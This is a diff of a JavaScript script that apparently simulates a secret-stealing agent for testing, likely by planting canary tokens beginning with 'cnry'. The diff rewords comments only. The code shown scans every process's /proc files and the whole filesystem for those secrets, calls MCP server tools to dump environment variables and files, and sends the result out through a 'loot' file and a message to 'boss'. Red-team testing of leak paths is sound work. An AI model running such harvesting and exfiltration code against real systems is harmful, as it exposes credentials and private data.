@@ -1,11 +1,12 @@
-// The program of an agent that looks for secrets wherever a session can look. It knows how they begin, and prints how many it found
-// at each place. What it finds it also sends on, as a thief would: by mail, into a file, into the arguments of a call.
+// The program of an agent that looks for secrets in every place that a session can reach. It knows how they begin, and prints
+// how many it found at each place. It also sends on the secrets it finds, as a thief would: by mail, into a file, into the
+// arguments of a call.
 import { readdirSync, readFileSync, statSync } from "node:fs";
 import { join } from "node:path";
 
 const { AGENCY_URL: url, AGENCY_TOKEN: token } = process.env;
 const start = ["cn", "ry"].join("");
-/** How a text that begins like this looks in base64, with 0, 1 or 2 bytes before it, and in hexadecimal. */
+/** A text with this beginning in base64, with 0, 1 or 2 bytes before it, and in hexadecimal. */
 const forms = [
   `${start}-[0-9a-f]{8}`,
   ...[0, 1, 2].map((before) => {
@@ -30,7 +31,7 @@ for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
     try {
       look(`/proc ${file}`, readFileSync(`/proc/${pid}/${file}`, "latin1"));
     } catch {
-      // Not ours to read.
+      // This process may not be read.
     }
 walk("/", 0);
 
@@ -52,7 +53,7 @@ const call = async (path, name, args = {}) => {
   return text;
 };
 
-// What a server has is asked for in every way it offers: its environment, its errors, its files.
+// Asks for everything that a server has: its environment, its errors, its files.
 const env = await call("/mcp/every", "get-env");
 await call("/mcp", "every__get-env");
 await call("/mcp/every", "get-structured-content", { location: "New York" });
@@ -85,7 +86,7 @@ for (const name of [
 ])
   await call("/mcp", name);
 await call("/mcp", "view_configurations");
-// And it is sent on.
+// Sends on everything that was found.
 await call("/mcp", "create_file", { description: "loot", content: env });
 await call("/mcp", "send_message", { to: "boss", body: env.slice(0, 50_000) });
 console.log(env);
@@ -113,7 +114,7 @@ function walk(folder, depth) {
       if (found.isDirectory()) walk(path, depth + 1);
       else if (found.isFile() && found.size < 262_144) look(`file ${path}`, readFileSync(path, "latin1"));
     } catch {
-      // Not ours to read.
+      // This file may not be read.
     }
   }
 }
